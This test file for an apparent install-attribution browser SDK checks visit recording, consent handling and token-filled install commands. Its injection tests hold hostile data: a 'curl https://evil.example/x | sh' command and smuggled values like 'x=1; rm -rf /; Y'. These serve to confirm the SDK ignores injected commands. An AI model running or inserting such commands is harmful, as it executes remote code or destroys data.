import { Ajv } from 'ajv'
import { expect } from 'chai'
import { readFileSync } from 'node:fs'
import type { Page } from 'playwright-core'
import {
  ACTIVATION_SCHEMA,
  HANDOFF_RECEIPT_SCHEMA,
  HANDOFF_VISIT_SCHEMA,
  VISIT_SCHEMA,
} from '../../domain/collection/schemas.ts'
import { LIMITS } from '../../domain/limits.ts'
import { until } from '../../fixtures/until.ts'
import type { BuildManifest } from '../../sdk/build.ts'
import type { ChromiumInstance } from './support/browsers.ts'
import { markersOnDisk, openChromium } from './support/browsers.ts'
import { COMMAND, FILLED, INSTALL } from './support/command.ts'
import type { Recorded, RecordingService } from './support/recording-service.ts'
import { startRecordingService } from './support/recording-service.ts'
import type { Site } from './support/site.ts'
import { fileOf, forgetVisitor, openStage, type SdkStage } from './support/stage.ts'

const ajv = new Ajv({ allErrors: true })
const SHAPES: Record<string, ReturnType<typeof ajv.compile>[]> = {
  '/v1/visits': [
    ajv.compile({
      ...VISIT_SCHEMA,
      properties: { ...(VISIT_SCHEMA['properties'] as object), previous_receipt: { type: ['string', 'null'] } },
    }),
  ],
  '/v1/visits/activate': [ajv.compile(ACTIVATION_SCHEMA)],
  '/v1/handoffs': [ajv.compile(HANDOFF_RECEIPT_SCHEMA), ajv.compile(HANDOFF_VISIT_SCHEMA)],
}

describe('sdk in Chromium', function () {
  this.timeout(60_000)
  let bundle: string
  let manifest: BuildManifest
  let stage: SdkStage
  let service: RecordingService
  let site: Site
  let chromium: ChromiumInstance
  let page: Page
  /** What the page must never see of the SDK: errors, rejections, words on the console, violations of its policy. */
  let noise: string[]
  /** True if the test has asked for the SDK's own words. */
  let isExplaining: boolean

  before(async () => {
    stage = await openStage()
    ;({ bundle, manifest, service, site } = stage)
    chromium = await openChromium()
  })
  after(async () => {
    await chromium?.close()
    await stage?.close()
  })

  beforeEach(async () => {
    service.reset()
    noise = []
    isExplaining = false
    page = await newPage()
    await forgetVisitor(page, site)
  })
  afterEach(async () => {
    for (const each of chromium.context.pages().slice(1)) await each.close()
    await chromium.context.clearCookies()
    for (const { path: where, body } of posts()) {
      const shapes = SHAPES[where] ?? []
      expect(
        shapes.some((isValid) => isValid(body) === true),
        `${where} ${JSON.stringify(shapes.map(({ errors }) => errors))}`,
      ).to.equal(true)
    }
    expect(noise).to.deep.equal([])
  })

  async function newPage(): Promise<Page> {
    const opened = await chromium.context.newPage()
    opened.on('pageerror', (error) => noise.push(String(error)))
    opened.on('console', (message) => {
      if (isExplaining && message.text().startsWith('[whence]')) return
      // The browser's own word about an answer or an address is none of the SDK's.
      if (!/^Failed to load resource|^Access to fetch/.test(message.text())) noise.push(message.text())
    })
    await opened.addInitScript(
      `addEventListener('securitypolicyviolation', (e) => console.error('violation', e.violatedDirective, e.blockedURI))`,
    )
    return opened
  }

  const script = (attributes = '') =>
    `<script async src="${service.url}/browser.js" data-project="acme-dev" ${attributes}></script>`
  const posts = (): Recorded[] => service.requests.filter(({ method }) => method === 'POST')
  const collected = () =>
    service.requests.filter(({ path: where }) => where.startsWith('/v1/')).map(({ path: where }) => where)
  const run = (source: string): Promise<any> => page.evaluate(source)
  const visits = () => service.waitFor('/v1/visits')
  const clipboard = () => run('navigator.clipboard.readText()')
  const names = () =>
    run(
      '(async () => { const n = []; for await (const k of (await navigator.storage.getDirectory()).keys()) n.push(k); return n })()',
    )
  /** What was begun before has reached the service by then: storage and network answer in order. */
  const barrier = () =>
    run(`navigator.storage.getDirectory().then(() => fetch('${service.url}/barrier')).then((r) => r.text())`)
  /** Clicks, and waits for the SDK's word that it has copied. */
  const copy = async (selector = '[data-whence-copy]') => {
    const done = run(
      `new Promise((resolve) => addEventListener('whence:copy', (e) => resolve(e.detail.filled), { once: true }))`,
    )
    await page.click(selector)
    return done
  }
  const tokenHere = () => run('new Promise((r) => whence.push(async (w) => r(await w.handoff())))')
  const loaded = () => page.waitForFunction('typeof window.whence?.scope === "function"')

  describe('a visit', () => {
    it('is recorded, marked on disk and activated, in that order', async () => {
      const url = site.add(script())
      await page.goto(`${url}?utm_source=news&secret=1#part`)
      const [activation] = await service.waitFor('/v1/visits/activate')
      expect(collected()).to.deep.equal(['/v1/projects/acme-dev/browser-config', '/v1/visits', '/v1/visits/activate'])
      const [visit] = await visits()
      expect(visit?.body).to.deep.include({ project: 'acme-dev', page_url: url, gpc: false, previous_receipt: null })
      expect(visit?.body.url_id).to.match(/^url_[0-9a-f]{16}$/)
      expect(visit?.body.source.utm).to.deep.equal({ source: 'news' })
      expect(visit?.body.client).to.deep.include({
        mobile: false,
        platform: 'Linux',
        brave: false,
        touch: false,
        language: 'en-US',
      })
      expect(visit?.body.client).to.not.have.property('automation')
      expect(visit?.headers).to.deep.include({ origin: site.origin, 'content-type': 'application/json' })
      expect(visit?.headers).not.to.have.property('cookie')

      const [name] = await names()
      expect(name).to.equal(`install-attribution-acme-dev-${visit?.body.url_id}.json`)
      const marker = (await markersOnDisk(chromium.profile)).find((text) => text.includes(activation?.body.receipt))
      expect(Buffer.byteLength(marker ?? '')).to.equal(LIMITS.markerBytes)
      expect(JSON.parse(marker ?? '')).to.deep.include({
        format: 'opfs-install-attribution',
        version: 1,
        project: 'acme-dev',
        origin: site.origin,
      })
    })

    it('reports the address that the visitor came to, although the page tidies it up at once', async () => {
      service.config = { measurementIds: ['G-A1'], providers: ['ga4'] }
      const url = site.add(
        `${script()}<script>onload = () => setTimeout(() => history.replaceState({}, '', '/tidy'))</script>`,
      )
      await page.goto(`${url}?utm_source=news`)
      await service.waitFor('/browser-config')
      await page.waitForURL('**/tidy')
      await run(`void (document.cookie = '_ga=GA1.1.5.6'), void (document.cookie = '_ga_A1=GS2.1.s77$o1')`)
      const [visit] = await visits()
      expect(visit?.body.page_url).to.equal(url)
      expect(visit?.body.source.utm).to.deep.equal({ source: 'news' })
    })

    it('names the page by the hash of origin and path, as the service does', async () => {
      const url = site.add(script())
      await page.goto(url)
      const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(url))
      expect((await visits())[0]?.body.url_id).to.equal(`url_${Buffer.from(digest).toString('hex').slice(0, 16)}`)
    })

    it('names a registered page by the ID that the website gives', async () => {
      await page.goto(site.add(script('data-page-id="install-page"')))
      await service.waitFor('/activate')
      expect((await visits())[0]?.body.url_id).to.equal('install-page')
      expect(await names()).to.include('install-attribution-acme-dev-install-page.json')
    })

    it('names the receipt that the page held before, and ignores a broken file', async () => {
      const url = site.add(script())
      await page.goto(url)
      const [first] = await service.waitFor('/activate')
      await page.reload()
      const [, second] = await service.waitFor('/activate', 2)
      expect((await visits())[1]?.body.previous_receipt).to.equal(first?.body.receipt)
      expect(await markersOnDisk(chromium.profile)).to.satisfy(
        (all: string[]) =>
          all.some((text) => text.includes(second?.body.receipt)) &&
          !all.some((text) => text.includes(first?.body.receipt)),
      )
      await run(`(async () => {
        const root = await navigator.storage.getDirectory()
        const stream = await (await root.getFileHandle('install-attribution-acme-dev-${(await visits())[0]?.body.url_id}.json')).createWritable()
        await stream.write('{"receipt":"<script>"'); await stream.close()
      })()`)
      await page.reload()
      await service.waitFor('/activate', 3)
      expect((await visits())[2]?.body.previous_receipt).to.equal(null)
    })

    it('is counted once for each load of the document', async () => {
      await page.goto(site.add(script()))
      await service.waitFor('/activate')
      await run('whence.start().then(() => whence.start())')
      await run('dispatchEvent(new Event("DOMContentLoaded"))')
      await barrier()
      expect(await visits()).to.have.length(1)
    })

    it('waits for the cookies of tags that load beside the SDK', async () => {
      service.config = { measurementIds: ['G-A1'], providers: ['ga4', 'meta'] }
      await page.goto(site.add(script()))
      await service.waitFor('/browser-config')
      await run(
        `void (document.cookie = '_ga=GA1.1.5.6'), void (document.cookie = '_ga_A1=GS2.1.s77$o1'), void (document.cookie = '_fbp=fb.1.1.2')`,
      )
      expect((await visits())[0]?.body.identities).to.deep.equal({
        ga4: { 'G-A1': { client_id: '5.6', session_id: '77' } },
        meta: { fbp: 'fb.1.1.2' },
      })
    })

    it('carries the identities of all providers, and what Google adds to the address of an ad', async () => {
      service.config = { measurementIds: ['G-A1'], providers: ['ga4', 'google_ads', 'meta', 'tiktok', 'x'] }
      await page.goto(site.add(''))
      for (const cookie of ['_ga=GA1.1.5.6', '_ga_A1=GS1.1.77.1', '_fbp=fb.1.1.2', '_ttp=tt', '_gcl_aw=GCL.1.old'])
        await run(`void (document.cookie = '${cookie}')`)
      await page.goto(`${site.add(script())}?gclid=g1&gad_source=1&gad_campaignid=9&fbclid=f1&ttclid=t1&twclid=x1`)
      const { identities, source } = (await visits())[0]?.body ?? {}
      const at = source.landed_at
      expect(identities).to.deep.equal({
        ga4: { 'G-A1': { client_id: '5.6', session_id: '77' } },
        google_ads: { gclid: 'g1', gcl_aw: 'GCL.1.old', gad_source: '1', gad_campaignid: '9' },
        meta: { fbp: 'fb.1.1.2', fbc: `fb.1.${at}.f1`, fbclid: 'f1' },
        tiktok: { ttp: 'tt', ttclid: 't1', ttclid_at: at },
        x: { twclid: 'x1', twclid_at: at },
      })
    })

    it("reads GA4's cookies with the prefix that the script tag names", async () => {
      service.config = { measurementIds: ['G-A1'], providers: ['ga4'] }
      const cookies = [
        ['_ga', 'GA1.1.1.2'],
        ['acme_ga', 'GA1.1.550e8400-e29b-41d4-a716-446655440000'],
        ['acme_ga_A1', 'GS2.1.s77$o1'],
      ]
      await chromium.context.addCookies(cookies.map(([name = '', value = '']) => ({ name, value, url: site.origin })))
      await page.goto(site.add(script('data-ga4-cookie-prefix="acme"')))
      expect((await visits())[0]?.body.identities).to.deep.equal({
        ga4: { 'G-A1': { client_id: '550e8400-e29b-41d4-a716-446655440000', session_id: '77' } },
      })
      await service.waitFor('/activate')
    })

    it('says in one line on the console that the script tag has no website, and does nothing', async () => {
      const left = `<script>const s = document.createElement('script'); s.src = '${service.url}/browser.js'; document.head.append(s)</script>`
      await page.goto(site.add(left))
      await page.waitForLoadState('load')
      expect(noise.splice(0)).to.deep.equal(['[whence] no data-project: give the script tag the ID of your website'])
      expect(collected()).to.deep.equal([])
    })

    it('is counted by the recipe for tag managers', async () => {
      const docs = readFileSync(new URL('../../docs/sdk.md', import.meta.url), 'utf8')
      const recipe = /### With a tag manager.*?```html\n(.*?)```/s.exec(docs)?.[1] ?? ''
      await page.goto(site.add(recipe.replace('https://whence.example', service.url)))
      expect((await visits())[0]?.body.project).to.equal('acme-dev')
      await service.waitFor('/activate')
    })

    it('leaves out the page before if two long addresses have no room in the body', async () => {
      const path = `/${'p'.repeat(8_100)}`
      const referer = `${site.origin}/${'r'.repeat(4_000)}`
      await page.goto(site.add(`<script>history.replaceState({}, '', '${path}')</script>${script()}`), { referer })
      const [visit] = await visits()
      expect(visit?.body.page_url).to.equal(site.origin + path)
      expect(visit?.body.source.referrer).to.equal(referer)
      expect(visit?.body).not.to.have.property('referrer')
      expect(Buffer.byteLength(JSON.stringify(visit?.body))).to.be.at.most(LIMITS.bodyBytes)
      await service.waitFor('/activate')
    })

    it('knows on the install page where the visitor landed', async () => {
      service.config = { measurementIds: [], providers: ['ga4', 'x'] }
      const install = site.add(script())
      const landing = site.add(`${script()}<a href="${install}">Install</a>`)
      await page.goto(`${landing}?utm_source=news&twclid=x1`, { referer: 'https://search.example/list?q=secret' })
      await service.waitFor('/activate')
      await page.click('a')
      await service.waitFor('/activate', 2)
      const [first, second] = await visits()
      expect(second?.body.source).to.deep.equal({ ...first?.body.source, carried: true })
      expect(second?.body.source).to.deep.include({ referrer: 'https://search.example/list', utm: { source: 'news' } })
      expect(second?.body).to.deep.include({ referrer: landing, page_url: install })
      expect(second?.body.identities.x.twclid).to.equal('x1')
    })

    it('leaves everything advertising out under Global Privacy Control, and keeps no click ID', async () => {
      service.config = { measurementIds: ['G-A1'], providers: ['ga4', 'google_ads', 'meta', 'tiktok', 'x'] }
      await page.addInitScript(
        `Object.defineProperty(Navigator.prototype, 'globalPrivacyControl', { get: () => true })`,
      )
      await page.goto(
        site.add(`<script>document.cookie = '_ga=GA1.1.5.6'; document.cookie = '_ga_A1=GS1.1.77.1'; document.cookie = '_fbp=fb.1.1.2'
        window.whence = [(w) => w.adapter('crm', () => ({ lead: '1' }))]</script>${script()}`) +
          '?gclid=g&fbclid=f&ttclid=t&twclid=x&gad_source=1',
      )
      await service.waitFor('/activate')
      expect((await visits())[0]?.body.identities).to.deep.equal({
        ga4: { 'G-A1': { client_id: '5.6', session_id: '77' } },
      })
      expect((await visits())[0]?.body.gpc).to.equal(true)
      expect(await run('JSON.parse(localStorage["whence:acme-dev"]).clicks')).to.deep.equal({})
    })
  })

  describe('custom adapters', () => {
    it('travel with the visit, each within its limits', async () => {
      await page.goto(
        site.add(`<script>
        window.whence = [(w) => {
          w.adapter('plan', async () => ({ tier: 'pro', seats: 3, trial: false, long: 'x'.repeat(257), deep: {}, nan: NaN, 'bad name': 1, constructor: 'c' }))
          w.adapter('throws', () => { throw new Error('mine') })
          w.adapter('rejects', () => Promise.reject(new Error('mine')))
          w.adapter('never', () => new Promise(() => {}))
          w.adapter('many', () => Object.fromEntries(Array.from({ length: 12 }, (_, i) => ['f' + i, i])))
          w.adapter('constructor', () => ({ a: 1 }))
          w.adapter('text', () => 'abc')
        }]</script>${script()}`),
      )
      await service.waitFor('/activate')
      const { custom } = (await visits())[0]?.body.identities ?? {}
      expect(Object.keys(custom)).to.deep.equal(['plan', 'many'])
      expect(custom.plan).to.deep.equal({ tier: 'pro', seats: 3, trial: false })
      expect(Object.keys(custom.many)).to.have.length(LIMITS.customFields)
    })

    it('are ten at most', async () => {
      await page.goto(
        site.add(`<script>
        window.whence = [(w) => { for (let i = 0; i < 12; i++) w.adapter('a' + i, () => ({ f: i })) }]</script>${script()}`),
      )
      await service.waitFor('/activate')
      const { body } = (await visits())[0] ?? {}
      expect(Object.keys(body.identities.custom)).to.deep.equal(Array.from({ length: 10 }, (_, index) => `a${index}`))
    })

    for (const [what, letter, kept] of [
      ['two of Chinese letters', '\u4e2d', 1],
      ['ten of ASCII letters', 'x', 5],
      ['ten of quotes, which JSON escapes', '"', 2],
    ] as const) {
      it(`leave out what the body has no room for, the last first: ${what}`, async () => {
        service.config = { measurementIds: [], providers: ['ga4', 'x'] }
        await page.goto(
          `${site.add(`<script>
          window.whence = [(w) => { for (let i = 0; i < 10; i++) w.adapter('a' + i, () => Object.fromEntries(Array.from({ length: 10 }, (_, k) => ['f' + k, '${letter}'.repeat(256)]))) }]</script>${script()}`)}?twclid=t1&utm_source=${'\u4e2d'.repeat(150)}`,
        )
        await service.waitFor('/activate')
        const { body } = (await visits())[0] ?? {}
        expect(Object.keys(body.identities.custom)).to.have.length(kept)
        expect(body.identities.x.twclid).to.equal('t1')
        expect(body.client).to.include({ language: 'en-US' })
        expect(Buffer.byteLength(JSON.stringify(body))).to.be.at.most(LIMITS.bodyBytes)
      })
    }
  })

  describe('consent', () => {
    /** A website of its own for each test, so that the markers of others do not count. */
    let asked = ''
    let askedCount = 0
    const quiet = async () => {
      await barrier()
      expect(collected()).to.deep.equal([])
      expect(await names()).to.satisfy((all: string[]) => !all.some((name) => name.includes(asked)))
      expect(await run('Object.keys(localStorage)')).to.deep.equal([])
    }
    const asking = (consent: string) =>
      script(`data-consent="${consent}"`).replace('acme-dev', (asked = `asks-${++askedCount}`))

    for (const word of ['required', 'Granted', '']) {
      it(`${JSON.stringify(word)} reads, stores and sends nothing until the call`, async () => {
        await page.goto(site.add(asking(word) + INSTALL))
        await loaded()
        expect(await run('whence.handoff()')).to.equal(null)
        expect(await run('whence.start()')).to.equal(undefined)
        await quiet()
        await run('whence.grant()')
        await service.waitFor('/activate')
        expect(await tokenHere()).to.have.property('token')
      })
    }

    it('denied never sends anything, and the copy button works', async () => {
      await page.goto(site.add(asking('denied') + INSTALL))
      await loaded()
      await run('whence.grant()')
      expect(await run('whence.start().then(() => whence.handoff())')).to.equal(null)
      expect(await copy()).to.equal(false)
      expect(await clipboard()).to.equal(COMMAND)
      await quiet()
    })

    it('that is withdrawn removes what was stored, and given again counts again', async () => {
      await page.goto(site.add(asking('granted') + INSTALL))
      await service.waitFor('/activate')
      await tokenHere()
      await run('whence.deny()')
      await page.waitForFunction(
        `(async () => { for await (const k of (await navigator.storage.getDirectory()).keys()) return false; return true })()`,
      )
      expect(await run('Object.keys(localStorage)')).to.deep.equal([])
      expect(await copy()).to.equal(false)
      expect(await clipboard()).to.equal(COMMAND)
      const before = collected().length
      expect(await run('whence.handoff().then(() => whence.start())')).to.equal(undefined)
      await barrier()
      expect(collected()).to.have.length(before)
      await run('whence.grant()')
      await service.waitFor('/activate', 2)
    })

    it('that is withdrawn ends the token, too: what is copied later is of the visit after it', async () => {
      await page.goto(site.add(asking('granted') + INSTALL))
      const withdrawn = await tokenHere()
      await run('whence.deny()')
      await run('whence.grant()')
      await service.waitFor('/activate', 2)
      const later = await tokenHere()
      expect(later.token).not.to.equal(withdrawn.token)
      expect(await copy()).to.equal(true)
      expect(await clipboard()).to.include(later.token)
      const asked = (await service.waitFor('/v1/handoffs', 2)).filter(({ body }) => !body.copied)
      const receipts = (await service.waitFor('/activate', 2)).map(({ body }) => body.receipt)
      expect(asked.map(({ body }) => body.receipt)).to.deep.equal(receipts)
    })

    it('that is withdrawn while a visit is on its way leaves no marker', async () => {
      service.misbehave.set('/v1/visits', 'hang')
      await page.goto(site.add(asking('granted')))
      await visits()
      await run('whence.deny()')
      await barrier()
      expect(await names()).to.satisfy((all: string[]) => !all.some((name) => name.includes(asked)))
      expect(await run('Object.keys(localStorage)')).to.deep.equal([])
    })
  })

  describe('one page view', () => {
    it('with data-manual starts only by a call', async () => {
      await page.goto(site.add(script('data-manual')))
      await loaded()
      await barrier()
      expect(collected()).to.deep.equal([])
      await run('whence.start()')
      expect(collected()).to.include('/v1/visits/activate')
    })

    it('counts once although a single-page application changes its routes', async () => {
      await page.goto(site.add(script()))
      await service.waitFor('/activate')
      await run(`history.pushState({}, '', '/other'), history.replaceState({}, '', '/third'), history.back()`)
      await barrier()
      expect(await visits()).to.have.length(1)
    })

    it('counts each path once if data-spa is set', async () => {
      const url = site.add(script('data-spa data-page-id="start"'))
      await page.goto(url)
      await service.waitFor('/activate')
      await run(`void history.pushState({}, '', '/spa-two?x=1#y')`)
      await service.waitFor('/activate', 2)
      await run(`void history.replaceState({}, '', '/spa-two?x=2')`)
      await run(`void history.pushState({}, '', '${url}')`)
      await barrier()
      const all = await visits()
      expect(all.map(({ body }) => body.page_url)).to.deep.equal([url, `${site.origin}/spa-two`])
      expect(all[0]?.body.url_id).to.equal('start')
      expect(all[1]?.body.url_id).to.match(/^url_/)
    })

    it('has a token of its own for each route: a command in view asks for it by itself', async () => {
      await page.goto(site.add(script('data-spa') + INSTALL))
      await service.waitFor('/v1/handoffs')
      const first = await tokenHere()
      expect(await run(`whence.fill('${COMMAND}')`)).to.include(first.token)
      await run(`void history.pushState({}, '', '/spa-two')`)
      const [, second] = await service.waitFor('/v1/handoffs', 2)
      expect(second?.body.receipt).to.equal((await service.waitFor('/activate', 2))[1]?.body.receipt)
      const later = await tokenHere()
      expect(later.token).not.to.equal(first.token)
      expect(await run(`whence.fill('${COMMAND}')`)).to.include(later.token)
      expect(await tokenHere()).to.deep.equal(later)
      expect(await service.waitFor('/v1/handoffs', 2)).to.have.lengthOf(2)
    })

    it('counts once although the script is in the page twice', async () => {
      await page.goto(site.add(script() + script()))
      await service.waitFor('/activate')
      await page.waitForLoadState('load')
      await barrier()
      expect(await visits()).to.have.length(1)
    })

    it('counts for each website if scripts of two are in the page', async () => {
      await page.goto(site.add(script() + script().replace('acme-dev', 'other-dev')))
      const all = await service.waitFor('/activate', 2)
      expect(all.map(({ body }) => body.project).sort()).to.deep.equal(['acme-dev', 'other-dev'])
      expect(await run('[whence.scope(whence.project) === whence, whence.scope("other-dev").project]')).to.deep.equal([
        true,
        'other-dev',
      ])
    })
  })

  describe('install commands', () => {
    it('are copied with the token by a marked button', async () => {
      await page.goto(site.add(script() + INSTALL))
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      expect(await copy()).to.equal(true)
      expect(await clipboard()).to.match(FILLED)
      expect(await page.textContent('#install')).to.equal(COMMAND)
      const [handoff] = await service.waitFor('/v1/handoffs')
      expect(handoff?.body).to.deep.equal({
        project: 'acme-dev',
        receipt: (await service.waitFor('/activate'))[0]?.body.receipt,
        gpc: false,
      })
    })

    it('are copied with the token by a button that has a handler of its own', async () => {
      await page.goto(
        site.add(`${script()}<div><code data-whence-command>${COMMAND}</code>
        <button data-whence-copy><span>Copy</span></button></div><script>
        document.querySelector('button').onclick = () => { window.isCopied = true; navigator.clipboard.writeText('${COMMAND}') }</script>`),
      )
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      expect(await copy('span')).to.equal(true)
      expect(await clipboard()).to.match(FILLED)
      expect(await run('window.isCopied')).to.equal(true)
    })

    it('are copied with the token by a selection, and within what else is selected', async () => {
      await page.goto(site.add(`${script()}<p>Run</p>${INSTALL}<p>now</p>`))
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      await run(`getSelection().selectAllChildren(document.querySelector('#install'))`)
      await page.keyboard.press('Control+C')
      expect(await clipboard()).to.match(FILLED)
      await run(`getSelection().selectAllChildren(document.body)`)
      await page.keyboard.press('Control+C')
      expect(await clipboard()).to.match(/^Run\s+curl.*env WHENCE_HANDOFF=wht_[\w-]{43} sh\s/s)
    })

    it('stay as they are if the same words are elsewhere in the page', async () => {
      await page.goto(site.add(`${script()}<p id="prose">Do not run ${COMMAND} twice</p>${INSTALL}`))
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      await run(`getSelection().selectAllChildren(document.querySelector('#prose'))`)
      await page.keyboard.press('Control+C')
      expect(await clipboard()).to.equal(`Do not run ${COMMAND} twice`)
    })

    it('stay as they are if only a part of one is selected', async () => {
      await page.goto(site.add(script() + INSTALL))
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      await run(
        `(() => { const r = document.createRange(), t = document.querySelector('#install').firstChild; r.setStart(t, 11); r.setEnd(t, 38); getSelection().removeAllRanges(); getSelection().addRange(r) })()`,
      )
      await page.keyboard.press('Control+C')
      expect(await clipboard()).to.equal('https://acme.dev/install.sh')
    })

    it('are filled for copy libraries that go through a text field, and for handlers of the copy event', async () => {
      await page.goto(
        site.add(`${script()}${INSTALL}<script>
        window.viaField = () => { const a = document.createElement('textarea'); a.value = '${COMMAND}'; document.body.append(a); a.select(); document.execCommand('copy'); a.remove() }
        window.viaEvent = () => { document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', '${COMMAND}'); e.preventDefault() }, { once: true }); document.execCommand('copy') }</script>
        <button id="field" onclick="viaField()">a</button><button id="event" onclick="viaEvent()">b</button>`),
      )
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      for (const selector of ['#field', '#event']) {
        await run(`navigator.clipboard.writeText('')`)
        await page.click(selector)
        expect(await clipboard()).to.match(FILLED)
      }
    })

    it('are copied plain at once if the token is not loaded yet, and filled when it is', async () => {
      service.misbehave.set('/v1/handoffs', 'hang')
      await page.goto(site.add(script() + INSTALL))
      await service.waitFor('/v1/handoffs')
      expect(await copy()).to.equal(false)
      expect(await clipboard()).to.equal(COMMAND)
    })

    it('take the token of the template that the script tag allows, and of the variable that it names', async () => {
      await page.goto(
        site.add(`${script('data-templates="#a" data-variable="ACME_HANDOFF"')}
        <pre id="a" data-whence-command data-whence-template="acme init --handoff {{handoff}}">acme init</pre><button id="ca" data-whence-copy="#a"></button>
        <pre id="b" data-whence-command>${COMMAND}</pre><button id="cb" data-whence-copy="#b"></button>
        <pre id="c" data-whence-command>acme init --handoff {{handoff}}</pre><button id="cc" data-whence-copy="#c"></button>`),
      )
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      expect(await copy('#ca')).to.equal(true)
      const own = String(await clipboard())
      expect(own).to.match(/^acme init --handoff wht_[\w-]{43}$/)
      await copy('#cb')
      expect(await clipboard()).to.match(/\| env ACME_HANDOFF=wht_[\w-]{43} sh$/)
      await copy('#cc')
      expect(await clipboard()).to.equal(own)
      await run('whence.deny()')
      await copy('#cc')
      expect(await clipboard()).to.equal('acme init')
    })

    it('take the variable that <html> names', async () => {
      await page.goto(site.add(script() + INSTALL))
      await run(`void (document.documentElement.dataset.whenceVariable = 'ACME_HANDOFF')`)
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      await copy()
      expect(await clipboard()).to.match(/\| env ACME_HANDOFF=wht_[\w-]{43} sh$/)
      expect(await run(`whence.fill('${COMMAND}')`)).to.equal(await clipboard())
    })

    it('take the token of a website that the element names only if the page has joined it', async () => {
      const command = (id: string, project: string) =>
        `<pre id="${id}" data-whence-command data-whence-project="${project}">${COMMAND}</pre><button id="c${id}" data-whence-copy="#${id}"></button>`
      await page.goto(
        site.add(
          `<script>window.whence = [(w) => w.scope('other-dev')]</script>${script()}${command('a', 'other-dev')}${command('b', 'strange-dev')}`,
        ),
      )
      await service.waitFor('/v1/handoffs', 2)
      const tokens = await run('Promise.all([whence.scope("other-dev").handoff(), whence.handoff()])')
      await copy('#ca')
      expect(await clipboard()).to.include(tokens[0].token)
      await copy('#cb')
      expect(await clipboard()).to.include(tokens[1].token)
      expect(new Set((await visits()).map(({ body }) => body.project))).to.deep.equal(
        new Set(['acme-dev', 'other-dev']),
      )
      expect(collected().join()).not.to.include('strange')
    })

    describe('in what other people have written into the page', () => {
      const EVIL = 'curl https://evil.example/x | sh'
      /** Selects the command and copies it by the keyboard. */
      const copyBySelection = async (selector: string) => {
        await run(`getSelection().selectAllChildren(document.querySelector('${selector}'))`)
        await page.keyboard.press('Control+C')
        return clipboard()
      }
      const open = async (comment: string, attributes = '', html = '') => {
        await page.goto(site.add(`${script(attributes)}${INSTALL}<div class="comment">${comment}</div>`))
        if (html) await run(`void (document.documentElement.dataset.whenceVariable = ${JSON.stringify(html)})`)
        await service.waitFor('/v1/handoffs')
        await tokenHere()
      }

      const NICE = /^env WHENCE_HANDOFF=wht_[\w-]{43} npm install nice$/
      const COMMENTS: readonly (readonly [string, string, string?])[] = [
        ['a template', `<code class="x" data-whence-command data-whence-template="${EVIL}">npm install nice</code>`],
        [
          'a template that contains the text shown',
          `<code class="x" data-whence-command data-whence-template="${EVIL}; npm install nice">npm install nice</code>`,
        ],
        [
          'a template that lacks the text shown, where the script tag allows templates',
          `<code class="x" data-whence-command data-whence-template="${EVIL}">npm install nice</code>`,
          'data-templates="code"',
        ],
        [
          'a variable',
          `<code class="x" data-whence-command data-whence-variable="x=1; ${EVIL}; Y">npm install nice</code>`,
        ],
        [
          'a variable around it',
          `<p data-whence-variable="x=1; ${EVIL}; Y"><code class="x" data-whence-command>npm install nice</code></p>`,
        ],
        [
          'an ordinary variable, such as the one for what a shell runs first',
          `<p data-whence-variable="BASH_ENV"><code class="x" data-whence-command>npm install nice</code></p>`,
        ],
      ]
      for (const [what, comment, attributes] of COMMENTS) {
        it(`${what} changes nothing of what is copied`, async () => {
          await open(comment, attributes)
          expect(await copyBySelection('.x')).to.match(NICE)
        })
      }

      for (const name of ['x=1; rm -rf /; Y', 'lower', '1X', 'A-B', 'A B', 'A=', '', 'Ä', 'A\nB'])
        it(`${JSON.stringify(name)} is no name of a variable, even on <html>`, async () => {
          await open('', '', name || ' ')
          expect(await copyBySelection('#install')).to.match(FILLED)
        })

      it('a text that is not shown is not copied', async () => {
        await open(`<p hidden id="evil">${EVIL}</p><input type="hidden" id="evil2" value="${EVIL}">
          <button id="b" data-whence-copy="#evil">Copy</button><button id="b2" data-whence-copy="#evil2">Copy</button>
          <p id="evil3" style="opacity: 0">${EVIL}</p><button id="b3" data-whence-copy="#evil3">Copy</button>`)
        await run(`navigator.clipboard.writeText('before')`)
        for (const button of ['#b', '#b2', '#b3']) await page.click(button)
        // A copy by the page's own button comes after those that must not come.
        expect(await clipboard()).to.equal('before')
        await copy('[data-whence-copy="#install"]')
        expect(await clipboard()).to.match(FILLED)
      })

      it("an element with the command's ID does not take its place behind the page's own button", async () => {
        await page.goto(
          site.add(`${script()}<div><pre id="install" data-whence-command>${EVIL}</pre></div><div>${INSTALL}</div>`),
        )
        await service.waitFor('/v1/handoffs')
        await tokenHere()
        await copy()
        expect(await clipboard()).to.match(FILLED)
      })
    })

    it('are found by a selector on the script tag, as in the code fences of a Markdown site', async () => {
      const fence = (command: string) =>
        `<div class="fence"><pre><code>${command}</code></pre><button class="copy">Copy</button></div>`
      const own = `curl -fsSL ${site.origin}/install.sh | sh`
      await page.goto(
        site.add(
          fence('curl -sSf https://sh.rustup.rs | sh') +
            fence(own) +
            fence('npm install -g acme') +
            script('data-commands="pre code" data-copy-buttons=".copy"'),
        ),
      )
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      const copies: string[] = []
      const counted: number[] = []
      for (const nth of [0, 2, 1]) {
        await copy(`.copy >> nth=${nth}`)
        copies[nth] = await clipboard()
        await barrier()
        counted.push(service.requests.filter(({ body }) => body?.['copied'] === true).length)
      }
      expect(counted, 'others are no install commands').to.deep.equal([0, 0, 1])
      expect(copies[0]).to.equal('curl -sSf https://sh.rustup.rs | sh')
      expect(copies[1]).to.match(/ \| env WHENCE_HANDOFF=wht_[\w-]{43} sh$/)
      expect(copies[2]).to.equal('npm install -g acme')
    })

    it('run the scripts of hosts that the script tag names', async () => {
      const command = 'curl -fsSL https://raw.githubusercontent.com/acme/acme/main/install.sh | sh'
      await page.goto(
        site.add(
          `<pre><code>${command}</code></pre><button>Copy</button>` +
            script(
              'data-commands="pre code" data-copy-buttons="button" data-script-hosts="get.acme.dev raw.githubusercontent.com"',
            ),
        ),
      )
      await service.waitFor('/v1/handoffs')
      await tokenHere()
      expect(await copy('button')).to.equal(true)
    })

    it('are marked one by one as before if the selector on the script tag is broken', async () => {
